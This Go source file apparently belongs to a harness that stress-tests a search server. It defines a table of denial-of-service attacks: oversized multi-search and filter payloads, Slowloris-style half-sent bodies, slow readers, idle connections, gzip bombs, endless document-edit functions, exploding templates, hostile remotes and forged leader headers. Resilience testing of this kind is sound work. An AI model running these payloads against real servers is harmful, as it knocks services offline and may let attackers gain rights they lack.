package main

import (
	"bytes"
	"compress/gzip"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"time"
)

// attack is a kind of attack, made by a number of attackers at once.
type attack struct {
	name    string
	at      int
	prepare func(s *server) error
	remote  func() http.HandlerFunc                      // answers as the attacked server's remote; nil: it has none
	run     func(s *server, i int, stop <-chan struct{}) // by the i-th attacker
	gains   func(s *server) (string, error)              // says what attackers have gained that they have no right to, "" for nothing; nil: they are after harm alone
}

const (
	search      = "/indexes/films/search"
	multiSearch = "/multi-search"
)

var attacks = []attack{
	{name: "multi-search of 60,000 queries", at: 2, run: again(func(s *server) string { return s.searchKey }, multiSearch,
		`{"queries":[`+list(`{"indexUid":"films","q":"ka","limit":1000}`, 60000)+`]}`, true)},
	{name: "multi-search of 900 queries", at: 8, run: again(public, multiSearch,
		`{"queries":[`+list(`{"indexUid":"films","q":"ka mi to re","limit":1000,"attributesToHighlight":["*"]}`, 900)+`]}`, false)},
	{name: "federated search of 900 queries", at: 8, run: again(public, multiSearch,
		`{"federation":{"limit":1000},"queries":[`+list(`{"indexUid":"films","q":"ka mi to re"}`, 900)+`]}`, false)},
	{name: "20 MB tag, 1000 hits", at: 2, run: again(public, search,
		`{"q":"ka","limit":1000,"attributesToHighlight":["*"],"highlightPreTag":"`+strings.Repeat("x", 20<<20)+`"}`, true)},
	{name: "long tags, 1000 hits", at: 8, run: again(public, search,
		`{"q":"k","limit":1000,"attributesToHighlight":["*"],"highlightPreTag":"`+strings.Repeat("x", 1000)+`"}`, false)},
	{name: "lists of attributes", at: 8, run: again(public, search,
		`{"q":"ka","limit":1000,"attributesToHighlight":[`+list(`"a.b.c.d"`, 3000)+`,"*"],"attributesToRetrieve":[`+list(`"text.a"`, 4000)+`,"text"]}`, false)},
	{name: "lists of attributes, within limits", at: 8, run: again(public, search,
		`{"q":"k","limit":1000,"attributesToHighlight":[`+list(`"a.b.c.d"`, 900)+`,"*"],"attributesToCrop":["*"],"attributesToRetrieve":[`+list(`"text.a"`, 900)+`,"text"],"showMatchesPosition":true}`, false)},
	{name: "filter of many clauses", at: 8, run: again(public, search,
		`{"filter":"`+strings.Repeat("year > 1950 OR genres = k OR rating 1 TO 9 OR ", 15000)+`year = 1"}`, false)},
	{name: "filter of many clauses, within limits", at: 8, run: again(public, search,
		`{"filter":"`+strings.Repeat("year > 1950 OR genres = k OR rating 1 TO 9 OR ", 3300)+`year = 1"}`, false)},
	{name: "facets and sort lists", at: 8, run: again(public, search,
		`{"q":"","facets":[`+list(`"genres"`, 20000)+`,"*"],"sort":[`+list(`"year:asc"`, 20000)+`]}`, false)},
	{name: "facets and sort lists, within limits", at: 8, run: again(public, search,
		`{"q":"","facets":[`+list(`"genres"`, 990)+`,"*"],"sort":[`+list(`"year:asc"`, 99)+`]}`, false)},
	{name: "long facet query", at: 8, run: again(public, "/indexes/films/facet-search",
		`{"facetName":"title","facetQuery":"`+strings.Repeat("ka", 200000)+`"}`, false)},
	{name: "long facet query, within limits", at: 8, run: again(public, "/indexes/films/facet-search",
		`{"facetName":"title","facetQuery":"`+strings.Repeat("ka", 30000)+`"}`, false)},
	{name: "long query", at: 8, run: again(public, search, `{"q":"`+strings.Repeat("ka mi tore ", 80000)+`"}`, false)},
	{name: "half-sent bodies", at: 4000, run: halfSent(public, search, "application/json", 50<<20, 500)},
	{name: "half-sent bodies of 900 kB", at: 2000, run: halfSent(public, search, "application/json", 1000000, 900000)},
	{name: "slow readers", at: 2000, run: slowReader(`{"limit":1000}`)},
	{name: "idle connections", at: 12000, run: idle},
	{name: "searches of those who leave", at: 64, run: leaving(`{"queries":[` + list(`{"indexUid":"films","q":"ka mi to re","limit":1000,"attributesToHighlight":["*"]}`, 200) + `]}`)},
	{name: "documents: fetch everything", at: 16, run: again(withData, "/indexes/films/documents/fetch",
		`{"limit":1000000,"fields":[`+list(`"text.a"`, 3000)+`,"text","title"]}`, false)},
	{name: "documents: half-sent, large", at: 64, run: halfSent(withData, "/indexes/other/documents", "application/json", 99<<20, 60<<20)},
	{name: "documents: compressed bombs", at: 16, run: again(withData, "/indexes/other/documents",
		`[{"id":1,"text":"`+strings.Repeat("x", 90<<20)+`"}]`, true)},
	{name: "documents: function that joins", at: 1, run: edit(`let a = []; a.pad(1000000, "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"); let b = []; b.pad(1000, a); doc.text = b.to_string();`)},
	{name: "documents: function without end", at: 1, run: edit(`loop { doc.text = "x"; }`)},
	{name: "documents: function of operators", at: 8, run: edit(`doc.a = ` + strings.Repeat("(1+", 20000) + "1" + strings.Repeat(")", 20000) + `;`)},
	{name: "documents: function of statements", at: 8, run: edit(`doc.a = 1;` + strings.Repeat(`"";`, 20000))},
	{name: "template: doubled text, split", at: 30, run: rendering(`{% assign a = "x" %}` + doubling("append: a", 22) + `{% assign b = a | split: "" %}{{ b | size }}`)},
	{name: "template: doubled list", at: 30, run: rendering(`{% assign a = "a b" | split: " " %}` + doubling("concat: a", 21) + `{{ a | size }}`)},
	{name: "template: nested loops", at: 8, run: rendering(`{% for i in (1..100000) %}{% for j in (1..100000) %}{% endfor %}{% endfor %}`)},
	{name: "template: joined list, sorted", at: 8, run: rendering(`{% for i in (1..100000) %}{{ i }} {% endfor %}`, `{% capture c %}{% for i in (1..50000) %}xxxxxxxx{{ i }} {% endfor %}{% endcapture %}{% assign l = c | split: " " | sort_natural | uniq | reverse %}{{ l | join: c }}`)},
	{name: "template: markup without an end", at: 8, run: rendering(`{% capture c %}{% for i in (1..80000) %}<script>{% endfor %}{% endcapture %}{{ c | strip_html }}`)},
	{name: "remote: values of scores", at: 8, prepare: withRemote, remote: scoreValues, run: again(public, search, networkSearch, false)},
	{name: "remote: metadata", at: 8, prepare: withRemote, remote: metadata, run: again(public, search, networkSearch, false)},
	{name: "remote: query vectors", at: 8, prepare: withRemote, remote: queryVectors, run: again(public, search, networkSearch, false)},
	{name: "remote: facets", at: 8, prepare: withRemote, remote: facets, run: again(public, search, networkSearch, false)},
	{name: "remote: facets that are asked for", at: 8, prepare: withRemote, remote: facets, run: again(public, search, `{"q":"ka","useNetwork":true,"facets":["genres"]}`, false)},
	{name: "remote: facets, compressed", at: 8, prepare: withRemote, remote: compressedFacets, run: again(public, search, `{"q":"ka","useNetwork":true,"facets":["genres"]}`, false)},
	{name: "remote: values of scores, binary", at: 8, prepare: withRemote, remote: binaryValues, run: again(public, search, networkSearch, false)},
	{name: "remote: an answer without end", at: 8, prepare: withRemote, remote: endlessAnswer, run: again(public, search, networkSearch, false)},
	{name: "headers: the leader, sent to the leader", at: 8, prepare: leading, run: playLeader, gains: forged},
	{name: "headers: the leader, sent to a follower", at: 8, prepare: following, run: playLeader, gains: forged},
	{name: "headers: a remote that merges", at: 8, prepare: hiding, run: playRemote, gains: shown},
}

func public(s *server) string   { return s.searchKey }
func withData(s *server) string { return s.dataKey }

// list repeats an item, with commas between.
func list(item string, n int) string { return strings.TrimSuffix(strings.Repeat(item+",", n), ",") }

func zipped(body string) []byte {
	var b bytes.Buffer
	w, _ := gzip.NewWriterLevel(&b, gzip.BestSpeed)
	io.WriteString(w, body)
	w.Close()
	return b.Bytes()
}

// again sends a request over and over.
func again(key func(*server) string, path, body string, compressed bool) func(*server, int, <-chan struct{}) {
	sent, encoding := []byte(body), ""
	if compressed {
		sent, encoding = zipped(body), "gzip"
	}
	return func(s *server, _ int, stop <-chan struct{}) {
		c := &http.Client{Timeout: time.Minute}
		defer c.CloseIdleConnections()
		ctx, cancel := context.WithCancel(context.Background())
		defer cancel()
		go func() {
			select {
			case <-stop:
			case <-ctx.Done():
			}
			cancel()
		}()
		for !over(stop) {
			if _, err := s.requestUntil(ctx, c, "POST", path, key(s), "application/json", encoding, sent); err != nil {
				pauseFor(stop, 10*time.Millisecond) // who refuses at once is asked again at once
			}
		}
	}
}

func over(stop <-chan struct{}) bool {
	select {
	case <-stop:
		return true
	default:
		return false
	}
}

func pauseFor(stop <-chan struct{}, d time.Duration) {
	select {
	case <-stop:
	case <-time.After(d):
	}
}

// halfSent promises a body and sends the beginning of it.
func halfSent(key func(*server) string, path, kind string, promised, sent int) func(*server, int, <-chan struct{}) {
	body := []byte(`[{"id":1,"q":"` + strings.Repeat("x", sent) + `"`)
	return func(s *server, i int, stop <-chan struct{}) {
		pauseFor(stop, time.Duration(i)*time.Millisecond/2)
		for !over(stop) {
			c, err := net.Dial("tcp", s.address)
			if err != nil {
				pauseFor(stop, 100*time.Millisecond)
				continue
			}
			fmt.Fprintf(c, "POST %s HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\nContent-Type: %s\r\nContent-Length: %d\r\n\r\n", path, key(s), kind, promised)
			c.Write(body)
			held(c, stop)
		}
	}
}

// held holds a connection open until the other side closes it, without reading the response.
func held(c net.Conn, stop <-chan struct{}) {
	defer c.Close()
	for !over(stop) {
		c.SetWriteDeadline(time.Now().Add(time.Second))
		pauseFor(stop, time.Second)
		if _, err := c.Write([]byte(" ")); err != nil {
			return
		}
	}
}

// slowReader asks for a large answer and takes none of it.
func slowReader(body string) func(*server, int, <-chan struct{}) {
	return func(s *server, i int, stop <-chan struct{}) {
		pauseFor(stop, time.Duration(i)*time.Millisecond)
		for !over(stop) {
			c, err := net.Dial("tcp", s.address)
			if err != nil {
				pauseFor(stop, 100*time.Millisecond)
				continue
			}
			c.(*net.TCPConn).SetReadBuffer(4096)
			fmt.Fprintf(c, "POST %s HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s",
				search, s.searchKey, len(body), body)
			held(c, stop)
		}
	}
}

func idle(s *server, i int, stop <-chan struct{}) {
	pauseFor(stop, time.Duration(i)*time.Millisecond/4)
	for !over(stop) {
		c, err := net.Dial("tcp", s.address)
		if err != nil {
			pauseFor(stop, 100*time.Millisecond)
			continue
		}
		io.WriteString(c, "GET /health HTTP/1.1\r\n")
		held(c, stop)
	}
}

// leaving asks and hangs up before there can be an answer.
func leaving(body string) func(*server, int, <-chan struct{}) {
	return func(s *server, _ int, stop <-chan struct{}) {
		for !over(stop) {
			c, err := net.Dial("tcp", s.address)
			if err == nil {
				fmt.Fprintf(c, "POST %s HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s",
					multiSearch, s.searchKey, len(body), body)
				pauseFor(stop, 20*time.Millisecond)
				c.Close()
			}
			pauseFor(stop, 100*time.Millisecond)
		}
	}
}

// edit has a function run over the documents.
func edit(function string) func(*server, int, <-chan struct{}) {
	return again(withData, "/indexes/films/documents/edit", `{"function":`+fmt.Sprintf("%q", function)+`}`, false)
}
